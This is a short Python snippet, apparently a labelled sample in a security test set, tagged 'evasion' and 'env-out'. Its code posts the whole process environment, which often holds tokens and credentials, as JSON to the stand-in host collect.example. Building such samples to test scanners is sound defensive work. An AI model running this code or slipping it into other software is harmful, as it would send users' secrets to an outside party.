# evasion: the environment posted with http.client
# grade: medium; does: env-out
import http.client, os, json
c = http.client.HTTPSConnection("collect.example")
c.request("POST", "/", body=json.dumps(dict(os.environ)))
